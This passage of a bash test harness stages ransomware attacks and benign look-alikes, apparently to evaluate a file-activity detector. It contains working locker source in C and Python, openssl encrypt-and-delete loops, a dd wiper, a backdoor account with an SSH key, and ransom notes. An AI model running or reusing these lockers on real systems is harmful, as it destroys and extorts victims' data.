  sshx priya 'export PASSPHRASE=dup-pr1ya-26; duplicity full --no-print-statistics ~/work file:///home/priya/backup/dup >/dev/null && for f in $(find ~/work -type f | head -6); do head -c 2000 /dev/urandom >> "$f"; done && head -c 7000 /dev/urandom > ~/work/new-notes.txt && duplicity incremental --no-print-statistics ~/work file:///home/priya/backup/dup >/dev/null; ls ~/backup/dup | wc -l'
  rm -rf /home/priya/backup /home/priya/.cache/duplicity
}
pre_b56_ssh_tar_xJ_new_release() {
  rm -rf /home/tomas/src /home/tomas/Downloads; mkdir -p /home/tomas/src /home/tomas/Downloads /tmp/.b56/pylib-3.11.1
  cp -a /usr/lib/python3.11/. /tmp/.b56/pylib-3.11.1/; find /tmp/.b56 -name __pycache__ -prune -exec rm -rf {} +
  tar cJf /home/tomas/Downloads/pylib-3.11.1.tar.xz -C /tmp/.b56 pylib-3.11.1
  mv /tmp/.b56/pylib-3.11.1 /home/tomas/src/pylib-3.11.0; rm -rf /tmp/.b56
  chown -R tomas: /home/tomas/src /home/tomas/Downloads
}
sc_b56_ssh_tar_xJ_new_release() {
  sshx tomas 'cd ~/src && tar xJf ~/Downloads/pylib-3.11.1.tar.xz && rm -rf pylib-3.11.0 && ln -sfn pylib-3.11.1 current && find pylib-3.11.1 -type f | wc -l'
  rm -rf /home/tomas/src /home/tomas/Downloads
}
sc_b57_cron_root_daily_maintenance() {
  rm -f /tmp/.b57-done
  read m h < <(cron_at_next_minute)
  # the daily scripts of the packages that keep databases (apt-compat is left out: without systemd it sleeps up to
  # 30 min first, APT::Periodic::RandomSleep)
  echo "$m $h * * * root cd / && run-parts --report --regex '^(dpkg|man-db|plocate|logrotate)\$' /etc/cron.daily; touch /tmp/.b57-done" > /etc/cron.d/daily-now
  for i in $(seq 400); do [ -f /tmp/.b57-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/daily-now
}
pre_b58_ssh_admin_gpg_recipient_shred() {
  rm -rf /var/tmp/.ops; install -d -m 700 /var/tmp/.ops
  gpg --homedir /var/tmp/.ops --batch --pinentry-mode loopback --passphrase '' --quick-gen-key 'Ops Team <ops@lab.internal>' rsa2048 encr never >/dev/null 2>&1
  gpg --homedir /var/tmp/.ops --export --armor ops@lab.internal > /var/tmp/ops-pub.asc; rm -rf /var/tmp/.ops
  su - mkowalski -c 'gpg --batch --import /var/tmp/ops-pub.asc' >/dev/null 2>&1; rm -f /var/tmp/ops-pub.asc
  rm -rf /home/mkowalski/exports; mkdir -p /home/mkowalski/exports
  for i in 01 02 03 04 05 06 07 08; do python3 -c "import random;r=random.Random($i);print('\n'.join(f'{r.randint(1,99999)};cust{r.randint(1,999)};{r.random()*1000:.2f}' for _ in range(400)))" > /home/mkowalski/exports/customers-2026-$i.csv; done
  chown -R mkowalski: /home/mkowalski/exports
}
sc_b58_ssh_admin_gpg_recipient_shred() {
  sshx mkowalski 'cd ~/exports && for f in customers-*.csv; do gpg --batch --yes --trust-model always -e -r ops@lab.internal "$f" && shred -u "$f"; done; ls'
  rm -rf /home/mkowalski/exports /home/mkowalski/.gnupg
}

# ---- fifteenth batch, attacks: syscall shapes none of h1–h42 has — a compiled locker encrypting through mmap (no
# write(2) at all; recorded twice: host rules, and a rule set that logs only opens for writing plus renames/deletes),
# an O_TMPFILE file linked into place with linkat, an account created minutes before by the intruder and logged in
# over ssh, a python locker copying its encrypted buffer into place with copy_file_range/sendfile
mmx_build() {
  install -d -m 700 /root/.mmx
  cat > /root/.mmx/m.c <<'C'
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>
static const char *NOTE = "MMX-README.txt";
static void lock(const char *p) {
  int fd = open(p, O_RDWR); if (fd < 0) return;
  struct stat st; if (fstat(fd, &st) || st.st_size <= 0) { close(fd); return; }
  unsigned char *m = mmap(NULL, st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (m == MAP_FAILED) { close(fd); return; }
  unsigned int s = 0x6d6d7821u;                  /* the mapping is encrypted in place: no write(2) at all */
  for (off_t i = 0; i < st.st_size; i++) { s ^= s << 13; s ^= s >> 17; s ^= s << 5; m[i] ^= (unsigned char)s; }
  msync(m, st.st_size, MS_SYNC); munmap(m, st.st_size); close(fd);
  char q[4200]; snprintf(q, sizeof q, "%s.mmx", p); rename(p, q);
}
static void walk(const char *d) {
  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st; if (!dir) return;
  snprintf(p, sizeof p, "%s/%s", d, NOTE);
  FILE *f = fopen(p, "w"); if (f) { fputs("Files encrypted. Write to mmx@proton.example with your ID.\n", f); fclose(f); }
  while ((e = readdir(dir))) {
    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || !strcmp(e->d_name, NOTE) || strstr(e->d_name, ".mmx")) continue;
    snprintf(p, sizeof p, "%s/%s", d, e->d_name); if (lstat(p, &st)) continue;
    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode)) lock(p);
  }
  closedir(dir);
}
int main(int c, char **v) { for (int i = 1; i < c; i++) walk(v[i]); return 0; }
C
  gcc -O2 -o /root/.mmx/m /root/.mmx/m.c && install -m 755 /root/.mmx/m /var/tmp/.fstrim-cache; rm -rf /root/.mmx
}
pre_h43_ssh_sudo_mmap_locker() { mmx_build; }
sc_h43_ssh_sudo_mmap_locker() {
  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -type d | wc -l) + $(find /var/www/shop/uploads -type d | wc -l) ))" > $CASE/facts
  sshx deploy 'sudo /var/tmp/.fstrim-cache /srv/nas/share /var/www/shop/uploads; echo rc=$?'
  rm -f /var/tmp/.fstrim-cache
}
pre_h44_ssh_mmap_locker_openw_rules() { mmx_build; chmod 755 /var/tmp/.fstrim-cache; }
sc_h44_ssh_mmap_locker_openw_rules() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  sshx priya 'cp /var/tmp/.fstrim-cache ~/.cache/.fstrim 2>/dev/null || { mkdir -p ~/.cache && cp /var/tmp/.fstrim-cache ~/.cache/.fstrim; }; ~/.cache/.fstrim ~/work; echo rc=$?; rm -f ~/.cache/.fstrim'
  rm -f /var/tmp/.fstrim-cache
}
pre_h45_ssh_otmpfile_linkat() {
  install -d -m 700 /root/.tf
  cat > /root/.tf/t.c <<'C'
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <libgen.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
static const char *NOTE = "TMPF_RECOVERY.txt";
static void lock(const char *d, const char *p) {
  int in = open(p, O_RDONLY); if (in < 0) return;
  struct stat st; if (fstat(in, &st) || st.st_size <= 0) { close(in); return; }
  unsigned char *b = malloc(st.st_size); ssize_t r = read(in, b, st.st_size); close(in);
  if (r != st.st_size) { free(b); return; }
  unsigned int s = 0x746d7066u;
  for (off_t i = 0; i < st.st_size; i++) { s ^= s << 13; s ^= s >> 17; s ^= s << 5; b[i] ^= (unsigned char)s; }
  int fd = open(d, O_TMPFILE | O_WRONLY, 0600);  /* an unnamed file in the folder: its data lands before it has a name */
  if (fd < 0) { free(b); return; }
  write(fd, b, st.st_size); free(b); fsync(fd);
  char q[4200], fdp[64]; snprintf(q, sizeof q, "%s.tmpf", p); snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", fd);
  if (linkat(fd, "", AT_FDCWD, q, AT_EMPTY_PATH) && linkat(AT_FDCWD, fdp, AT_FDCWD, q, AT_SYMLINK_FOLLOW)) { close(fd); return; }
  close(fd); unlink(p);
}
static void walk(const char *d) {
  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st; if (!dir) return;
  snprintf(p, sizeof p, "%s/%s", d, NOTE);
  FILE *f = fopen(p, "w"); if (f) { fputs("Your documents are locked. tmpf-support@tutanota.example\n", f); fclose(f); }
  while ((e = readdir(dir))) {
    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || !strcmp(e->d_name, NOTE) || strstr(e->d_name, ".tmpf")) continue;
    snprintf(p, sizeof p, "%s/%s", d, e->d_name); if (lstat(p, &st)) continue;
    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode)) lock(d, p);
  }
  closedir(dir);
}
int main(int c, char **v) { for (int i = 1; i < c; i++) walk(v[i]); return 0; }
C
  gcc -O2 -o /root/.tf/t /root/.tf/t.c && install -m 755 /root/.tf/t /var/tmp/.gvfs-metadata; rm -rf /root/.tf
}
sc_h45_ssh_otmpfile_linkat() {
  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -type d | wc -l)" > $CASE/facts
  sshx mkowalski '/var/tmp/.gvfs-metadata ~/Documents; echo rc=$?'
  rm -f /var/tmp/.gvfs-metadata
}
pre_h46_ssh_new_account_openssl() {
  pkill -u svc-backup2 2>/dev/null; userdel -r svc-backup2 >/dev/null 2>&1; true
}
sc_h46_ssh_new_account_openssl() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
  # the intruder (in as mkowalski, who may sudo) makes a service-looking account, gives it his key and the share
  sshx mkowalski 'sudo useradd -m -s /bin/bash svc-backup2 && sudo usermod -p "*" svc-backup2 && sudo install -d -m 700 -o svc-backup2 -g svc-backup2 /home/svc-backup2/.ssh && sudo tee /home/svc-backup2/.ssh/authorized_keys >/dev/null && sudo chown svc-backup2: /home/svc-backup2/.ssh/authorized_keys && sudo setfacl -R -m u:svc-backup2:rwX /srv/nas/share && sudo setfacl -R -d -m u:svc-backup2:rwX /srv/nas/share; id svc-backup2' < $HO/key.pub
  sleep 3
  sshx svc-backup2 'cd /srv/nas/share && find . -type f | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -salt -pass pass:Bk2-9f1e77 -in "$f" -out "$f.bk2" && rm -f "$f"; done; find . -type d -exec sh -c "echo \"All files on this share are encrypted. Mail bk2@onionmail.example\" > \"\$1/BK2-RESTORE.txt\"" _ {} \; ; echo done'
  pkill -u svc-backup2 2>/dev/null; userdel -r svc-backup2 >/dev/null 2>&1; true
}
pre_h47_ssh_python_copy_file_range() {
  install -d -m 755 /var/tmp/.cfr
  cat > /var/tmp/.cfr/c.py <<'P'
import os, sys
KEY = bytes.fromhex('9f3c51a2e07b44d18c26f5aa0b7e31c9')
NOTE = 'CFR-HOW-TO-DECRYPT.txt'
used = set()
def put(src, dst, n):
    off = 0
    while off < n:                       # the encrypted buffer goes into place by the kernel, not by write(2)
        try: k = os.copy_file_range(src, dst, n - off); used.add('copy_file_range')
        except OSError: k = os.sendfile(dst, src, off, n - off); used.add('sendfile')
        if k == 0: break
        off += k
for root, dirs, files in os.walk(sys.argv[1]):
    with open(os.path.join(root, NOTE), 'w') as f: f.write('Your files were encrypted. Contact cfr@protonmail.example\n')
    for n in files:
        if n.endswith('.cfr') or n == NOTE: continue
        p = os.path.join(root, n)
        with open(p, 'rb') as f: data = f.read()
        enc = bytes(b ^ KEY[i % 16] for i, b in enumerate(data))
        buf = os.memfd_create('cfr')
        os.write(buf, enc); os.lseek(buf, 0, 0)
        dst = os.open(p + '.cfr', os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        put(buf, dst, len(enc)); os.close(dst); os.close(buf)
        os.unlink(p)
print('via', ' '.join(sorted(used)))
P
  chmod 644 /var/tmp/.cfr/c.py
}
sc_h47_ssh_python_copy_file_range() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  sshx priya 'python3 /var/tmp/.cfr/c.py ~/work' | tee -a $CASE/facts.via
  rm -rf /var/tmp/.cfr
}

# ---- fifteenth batch, look-alikes a real host does in bulk: zstd --rm over 240 old logs (new suffix, originals
# removed), 200 photos renamed by their EXIF date with exiftool, an admin converting 120 certificates to DER and a few
# to PKCS#12 with openssl (no encryption, originals kept), a python venv and pip install from the local wheel cache
pre_b59_cron_zstd_old_logs() {
  rm -rf /srv/nas/applogs; mkdir -p /srv/nas/applogs
  python3 - <<'PY'
import os, random
r = random.Random(59)
for app in ['billing', 'ingest', 'api', 'scheduler']:
    d = f'/srv/nas/applogs/{app}'; os.makedirs(d, exist_ok=True)
    for day in range(60):
        with open(f'{d}/{app}-2026-{9 + day // 30:02d}-{day % 30 + 1:02d}.log', 'w') as f:
            for _ in range(r.randint(100, 400)):
                f.write(f'2026-10-01T{r.randint(0,23):02d}:{r.randint(0,59):02d}:00Z INFO {app} req={r.randint(1,10**6)} ms={r.randint(1,900)}\n')
PY
  find /srv/nas/applogs -name '*.log' -exec touch -d '20 days ago' {} +
  chown -R svc-nas: /srv/nas/applogs
}
sc_b59_cron_zstd_old_logs() {
  rm -f /tmp/.b59-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * svc-nas find /srv/nas/applogs -name '*.log' -mtime +7 -print0 | xargs -0 -r zstd --rm -q; touch /tmp/.b59-done" > /etc/cron.d/applogs-compress
  for i in $(seq 150); do [ -f /tmp/.b59-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/applogs-compress
  echo "zst $(find /srv/nas/applogs -name '*.zst' | wc -l)" >> $CASE/facts
  rm -rf /srv/nas/applogs
}
pre_b60_ssh_exiftool_rename_photos() {
  rm -rf /home/tomas/Pictures; mkdir -p /home/tomas/Pictures/import/{card1,card2}
  convert -size 320x240 plasma:fractal /tmp/.b60.jpg 2>/dev/null || convert -size 320x240 xc:skyblue /tmp/.b60.jpg
  for i in $(seq -w 1 210); do d=card$(( (10#$i % 2) + 1 )); cp /tmp/.b60.jpg /home/tomas/Pictures/import/$d/IMG_$((4000 + 10#$i)).JPG
    touch -d "$(printf '2026-%02d-%02d %02d:%02d:07' $(( 10#$i % 9 + 1 )) $(( 10#$i % 27 + 1 )) $(( 10#$i % 23 )) $(( 10#$i % 59 )))" /home/tomas/Pictures/import/$d/IMG_$((4000 + 10#$i)).JPG; done
  rm -f /tmp/.b60.jpg
  exiftool -q -r -overwrite_original -P '-CreateDate<FileModifyDate' '-DateTimeOriginal<FileModifyDate' /home/tomas/Pictures/import
  chown -R tomas: /home/tomas/Pictures
}
sc_b60_ssh_exiftool_rename_photos() {
  sshx tomas "exiftool -q -r '-FileName<CreateDate' -d %Y%m%d_%H%M%S%%-c.%%e ~/Pictures/import; find ~/Pictures/import -type f | wc -l"
  rm -rf /home/tomas/Pictures
}
pre_b61_ssh_sudo_openssl_x509_der() {
  rm -rf /srv/pki; mkdir -p /srv/pki/certs /srv/pki/private
  for i in $(seq -w 1 120); do openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=host$i.lab.internal" -days 365 \
    -keyout /srv/pki/private/host$i.key -out /srv/pki/certs/host$i.pem 2>/dev/null; done
  chmod 600 /srv/pki/private/*
}
sc_b61_ssh_sudo_openssl_x509_der() {
  sshx deploy 'sudo sh -c '"'"'cd /srv/pki/certs && for f in *.pem; do openssl x509 -in "$f" -outform der -out "${f%.pem}.der"; done && for h in host001 host002 host003 host004 host005; do openssl pkcs12 -export -inkey ../private/$h.key -in $h.pem -passout pass:Exp0rt-2026 -out $h.p12; done; ls | wc -l'"'"
  rm -rf /srv/pki
}
pre_b62_ssh_venv_pip_local_wheels() {
  rm -rf /home/tomas/proj-web; mkdir -p /home/tomas/proj-web/app
  printf 'setuptools==66.1.1\npip==23.0.1\n' > /home/tomas/proj-web/requirements.txt
  printf 'def main():\n    print("ok")\n' > /home/tomas/proj-web/app/__init__.py
  chown -R tomas: /home/tomas/proj-web
}
sc_b62_ssh_venv_pip_local_wheels() {
  sshx tomas 'cd ~/proj-web && python3 -m venv .venv && .venv/bin/pip install -q --no-index --find-links /usr/share/python-wheels -r requirements.txt && find .venv -type f | wc -l'
  rm -rf /home/tomas/proj-web
}

# ---- sixteenth batch: originals destroyed by truncation (left as empty files), a wiper-style finish (encrypted copies
# in a staging folder, then each original overwritten with random bytes of the same size by dd), a locker that
# encrypts every file in place and then renames the folders instead of the files
sc_h48_ssh_openssl_truncate_originals() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  sshx priya 'cd ~/work && find . -type f | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -salt -pass pass:Tr0-77ab -in "$f" -out "$f.trnc" && truncate -s 0 "$f"; done; find . -type d | while read -r d; do echo "Originals are gone. Mail trnc@onionmail.example" > "$d/TRNC-RESTORE.txt"; done; echo ok'
}
pre_h49_ssh_sudo_staging_dd_wipe() {
  install -d -m 755 /usr/local/lib/.wpr
  cat > /usr/local/lib/.wpr/w.sh <<'S'
#!/bin/bash
stg=/var/tmp/.wpr-stage; mkdir -p "$stg"
cd /srv/nas/share
find . -type f | while read -r f; do
  d="$stg/$(dirname "$f")"; mkdir -p "$d"
  openssl enc -aes-256-ctr -pbkdf2 -pass pass:Wp9-e0c1 -in "$f" -out "$d/$(basename "$f").wpr"
done
find . -type f | while read -r f; do
  s=$(stat -c %s "$f")
  dd if=/dev/urandom of="$f" bs="$s" count=1 iflag=fullblock conv=notrunc status=none
done
find . -type d | while read -r d; do echo "Your files were taken and wiped. wpr@proton.example" > "$d/WPR-README.txt"; done
S
  chmod 755 /usr/local/lib/.wpr/w.sh; rm -rf /var/tmp/.wpr-stage
}
sc_h49_ssh_sudo_staging_dd_wipe() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'sudo /usr/local/lib/.wpr/w.sh; echo ok'
  echo "staged $(find /var/tmp/.wpr-stage -type f | wc -l)" >> $CASE/facts
  rm -rf /usr/local/lib/.wpr /var/tmp/.wpr-stage
}
pre_h50_ssh_sudo_python_rename_dirs() {
  install -d -m 755 /opt/.idx
  cat > /opt/.idx/dl.py <<'P'
import os, sys
KEY = bytes.fromhex('5ac3e1097d2b44f08e61a9d3370cbb12')
NOTE = 'DIRLOCK-README.txt'
for top in sys.argv[1:]:
    for root, dirs, files in os.walk(top):
        for n in files:
            p = os.path.join(root, n)
            fd = os.open(p, os.O_RDWR)
            data = os.pread(fd, os.fstat(fd).st_size, 0)
            os.pwrite(fd, bytes(b ^ KEY[i % 16] for i, b in enumerate(data)), 0)
            os.fsync(fd); os.close(fd)
        with open(os.path.join(root, NOTE), 'w') as f: f.write('Folders locked. dirlock@onionmail.example\n')
    for root, dirs, files in os.walk(top, topdown=False):   # the folders, deepest first, not the files
        if root != top: os.rename(root, root + '.locked')
P
  chmod 644 /opt/.idx/dl.py
}
sc_h50_ssh_sudo_python_rename_dirs() {
  echo "files $(find /srv/nas/share /var/www/shop/uploads -type f | wc -l) dirs $(find /srv/nas/share /var/www/shop/uploads -type d | wc -l) renamed-dirs $(find /srv/nas/share /var/www/shop/uploads -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx deploy 'sudo python3 /opt/.idx/dl.py /srv/nas/share /var/www/shop/uploads; echo ok'
  rm -rf /opt/.idx
}

# ---- sixteenth batch, look-alikes: a mail sync marking 320 Maildir messages read (`:2,` renamed `:2,S`), a sync tool's
# atomic replace of 200 files through `.syncthing.F.tmp`, `7z x -aoa` of a password archive over the existing tree, a
# nightly database dump encrypted with `gpg -c`, the plain dump and the encrypted dumps older than 3 days deleted
pre_b63_ssh_maildir_mark_read() {
  rm -rf /home/priya/Maildir
  python3 - <<'PY'
import os, random
r = random.Random(63)
for box in ['INBOX', 'INBOX.lists', 'INBOX.work']:
    for sub in ['cur', 'new', 'tmp']: os.makedirs(f'/home/priya/Maildir/{box}/{sub}', exist_ok=True)
    for i in range(110):
        t = 1796000000 + r.randint(0, 600000)
        with open(f'/home/priya/Maildir/{box}/cur/{t}.M{r.randint(1,999999)}P{r.randint(100,9999)}.ws-priya:2,', 'w') as f:
            f.write(f'From: list{i}@example.org\nSubject: msg {i}\n\n' + 'x' * r.randint(200, 4000) + '\n')
PY
  cat > /home/priya/.mailsync.py <<'P'
# what mbsync/offlineimap do when the server says the messages were read: rename each `:2,` to `:2,S`
import os, sys
n = 0
for box in sorted(os.listdir(os.path.expanduser('~/Maildir'))):
    cur = os.path.expanduser(f'~/Maildir/{box}/cur')
    for m in sorted(os.listdir(cur)):
        if m.endswith(':2,'):
            os.rename(os.path.join(cur, m), os.path.join(cur, m + 'S')); n += 1
print('marked', n)
P
  chown -R priya: /home/priya/Maildir /home/priya/.mailsync.py
}
sc_b63_ssh_maildir_mark_read() {
  sshx priya 'python3 ~/.mailsync.py' | tee $CASE/facts
  rm -rf /home/priya/Maildir /home/priya/.mailsync.py
}
pre_b64_ssh_syncthing_atomic_replace() {
  rm -rf /home/tomas/Sync; mkdir -p /home/tomas/Sync/shared/{docs,sheets,photos,notes}
  python3 - <<'PY'
import os, random
r = random.Random(64)
for i in range(200):
    d = r.choice(['docs', 'sheets', 'photos', 'notes'])
    with open(f'/home/tomas/Sync/shared/{d}/file_{i:03d}' + r.choice(['.odt', '.ods', '.jpg', '.md']), 'wb') as f: f.write(os.urandom(r.randint(1000, 30000)))
PY
  cat > /home/tomas/.sync-pull.py <<'P'
# a sync tool pulling a newer version of every file: written to .syncthing.NAME.tmp beside it, fsync'd, renamed over it
import os, sys
n = 0
for root, dirs, files in os.walk(os.path.expanduser('~/Sync/shared')):
    for name in files:
        if name.startswith('.syncthing.'): continue
        tmp = os.path.join(root, f'.syncthing.{name}.tmp')
        fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
        os.write(fd, os.urandom(os.path.getsize(os.path.join(root, name)) + 17)); os.fsync(fd); os.close(fd)
        os.rename(tmp, os.path.join(root, name)); n += 1
print('replaced', n)
P
  chown -R tomas: /home/tomas/Sync /home/tomas/.sync-pull.py
}
sc_b64_ssh_syncthing_atomic_replace() {
  sshx tomas 'python3 ~/.sync-pull.py' | tee $CASE/facts
  rm -rf /home/tomas/Sync /home/tomas/.sync-pull.py
}
pre_b65_ssh_7z_x_aoa_password_over() {
  rm -rf /home/mkowalski/restore; mkdir -p /home/mkowalski/restore
  (cd /home/mkowalski && 7z a -bd -p'Rst-2026!' -mhe=on restore/documents-2026-12-01.7z Documents >/dev/null)
  find /home/mkowalski/Documents -type f -name '*.txt' -exec sh -c 'echo edited >> "$1"' _ {} \;
  chown -R mkowalski: /home/mkowalski/restore /home/mkowalski/Documents
}
sc_b65_ssh_7z_x_aoa_password_over() {
  echo "files $(find /home/mkowalski/Documents -type f | wc -l)" > $CASE/facts
  sshx mkowalski 'cd ~ && 7z x -bd -aoa -p"Rst-2026!" restore/documents-2026-12-01.7z >/dev/null && echo restored'
  rm -rf /home/mkowalski/restore
}
pre_b66_cron_pgdump_gpg_rotate() {
  rm -rf /srv/db; mkdir -p /srv/db/dumps
  for d in 1 2 3 4 5 6; do day=$(date -d "$d days ago" +%F); head -c 40000 /dev/urandom > /srv/db/dumps/shop-$day.sql.gpg; touch -d "$d days ago" /srv/db/dumps/shop-$day.sql.gpg; done
  cat > /usr/local/bin/shopdb-dump <<'P'
#!/usr/bin/python3
# stands for pg_dump: the whole schema and rows as SQL on stdout
import random, sys
r = random.Random()
w = sys.stdout.write
w('-- shop database dump\nSET client_encoding = \'UTF8\';\nCREATE TABLE orders (id int, customer text, total numeric);\n')
for i in range(20000): w(f"INSERT INTO orders VALUES ({i}, 'cust{r.randint(1,5000)}', {r.randint(100,99999)/100});\n")
P
  chmod 755 /usr/local/bin/shopdb-dump
  cat > /usr/local/sbin/shopdb-backup <<'S'
#!/bin/sh
set -e
cd /srv/db/dumps
f=shop-$(date +%F).sql
/usr/local/bin/shopdb-dump > "$f"
gpg --batch --yes --pinentry-mode loopback --passphrase-file /srv/db/.backup-pass -c -o "$f.gpg" "$f"
rm -f "$f"
find /srv/db/dumps -name 'shop-*.sql.gpg' -mtime +3 -delete
S
  chmod 755 /usr/local/sbin/shopdb-backup; echo 'db-backup-pass-77' > /srv/db/.backup-pass; chmod 600 /srv/db/.backup-pass
  chown -R svc-nas: /srv/db
}
sc_b66_cron_pgdump_gpg_rotate() {
  rm -f /tmp/.b66-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * svc-nas /usr/local/sbin/shopdb-backup; touch /tmp/.b66-done" > /etc/cron.d/shopdb-backup
  for i in $(seq 150); do [ -f /tmp/.b66-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/shopdb-backup
  echo "dumps-left $(ls /srv/db/dumps | wc -l): $(ls /srv/db/dumps | tr '\n' ' ')" >> $CASE/facts
  rm -rf /srv/db /usr/local/bin/shopdb-dump /usr/local/sbin/shopdb-backup
}

# ---- seventeenth batch: a locker over a bind mount under /mnt (the log names the mount's paths), a QNAP-style locker
# through busybox applet links (`7z a -p -mhe=on` per file, `rm` and `sh` are /bin/busybox, notes by the shell's own
# redirection), a locker run from a second ssh login inside the first (a stolen root key: new auid and session), one
# root process fanning out over two users' homes with `sudo -u USER sh -c … &`, a new python3 per file from find -exec
pre_h51_ssh_sudo_bindmount_mnt() { mkdir -p /mnt/nas; mount --bind /srv/nas/share /mnt/nas; }
sc_h51_ssh_sudo_bindmount_mnt() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
  sshx deploy 'sudo sh -c '"'"'cd /mnt/nas && find . -type f | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:Bm-51x9 -in "$f" -out "$f.bmnt" && rm -f "$f"; done; find . -type d | while read -r d; do echo "Your NAS files are encrypted. bmnt@onionmail.example" > "$d/BMNT-README.txt"; done; echo ok'"'"
  umount /mnt/nas; rmdir /mnt/nas
}
pre_h52_ssh_busybox_7z_qnap() {
  install -d -m 755 /var/tmp/.qbin
  for a in sh rm find printf; do ln -sf /bin/busybox /var/tmp/.qbin/$a; done
  cat > /var/tmp/.qbin/q.sh <<'S'
for d in $(find /srv/nas/share -type d); do
  for f in "$d"/*; do
    [ -f "$f" ] || continue
    7z a -bd -mx=1 -p'Qn4p-52!x' -mhe=on "$f.7z" "$f" >/dev/null && rm -f "$f"
  done
  printf 'All your files were locked with 7z. Visit qnap52.onion\n' > "$d/!!!READ_ME.txt"
done
echo ok
S
  chmod 755 /var/tmp/.qbin/q.sh
}
sc_h52_ssh_busybox_7z_qnap() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
  sshx svc-nas 'PATH=/var/tmp/.qbin:$PATH; sh /var/tmp/.qbin/q.sh'
  rm -rf /var/tmp/.qbin
}
pre_h53_ssh_nested_ssh_root() { install -m 600 -o priya -g priya $HO/key /home/priya/.ssh/id_ed25519; }
sc_h53_ssh_nested_ssh_root() {
  echo "files $(find /home/mkowalski/Documents /var/www/shop/uploads -type f | wc -l) dirs $(find /home/mkowalski/Documents /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
  sshx priya 'ssh -q -p 2222 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes root@localhost '"'"'for top in /home/mkowalski/Documents /var/www/shop/uploads; do find "$top" -type f | while read -r f; do openssl enc -aes-256-ctr -pbkdf2 -pass pass:Ns-53q -in "$f" -out "$f.nstd" && rm -f "$f"; done; find "$top" -type d | while read -r d; do echo "Encrypted. nstd@proton.example" > "$d/NSTD-HELP.txt"; done; done; echo ok'"'"
  rm -f /home/priya/.ssh/id_ed25519
}
sc_h54_ssh_root_sudo_u_fanout() {
  echo "files $(find /home/mkowalski/Documents /home/priya/work -type f | wc -l) dirs $(find /home/mkowalski/Documents /home/priya/work -type d | wc -l)" > $CASE/facts
  sshx root 'for u in mkowalski priya; do sudo -H -u $u sh -c '"'"'for top in ~/Documents ~/work; do [ -d "$top" ] || continue; find "$top" -type f | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:Fo-54z -in "$f" -out "$f.fnout" && rm -f "$f"; done; find "$top" -type d | while read -r d; do echo "Pay to restore. fnout@onionmail.example" > "$d/FNOUT-README.txt"; done; done'"'"' & done; wait; echo ok'
}
sc_h55_ssh_find_exec_python_c() {
  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'find ~/Documents -type f -exec python3 -c "import sys,os;p=sys.argv[1];d=open(p,\"rb\").read();open(p,\"wb\").write(bytes(b^0x5c for b in d));os.rename(p,p+\".pyc5\")" {} \; ; find ~/Documents -type d -exec sh -c "echo Files encrypted. pyc5@onionmail.example > \"\$1/PYC5-RESTORE.txt\"" _ {} \; ; echo ok'
}

# ---- seventeenth batch, look-alikes a real host does in bulk: perl rename of 320 photos .jpeg -> .jpg, a browser cache's
# churn (thousands of <16 hex>_0 files written and evicted under ~/.cache), an antivirus sweep moving 36 EICAR test files
# out of 9 folders of the share into /var/quarantine, root's cron running `xz -T2 -9` over 240 rotated web logs
pre_b67_ssh_rename_jpeg_jpg() {
  rm -rf /home/tomas/Pictures; mkdir -p /home/tomas/Pictures/{2024-summer,2024-winter,2025-spring,phone}
  python3 - <<'PY'
import os, random
r = random.Random(67)
for i in range(320):
    d = r.choice(['2024-summer', '2024-winter', '2025-spring', 'phone'])
    with open(f'/home/tomas/Pictures/{d}/DSC{1000 + i:05d}.jpeg', 'wb') as f: f.write(b'\xff\xd8\xff\xe0' + os.urandom(r.randint(3000, 20000)))
PY
  chown -R tomas: /home/tomas/Pictures
}
sc_b67_ssh_rename_jpeg_jpg() {
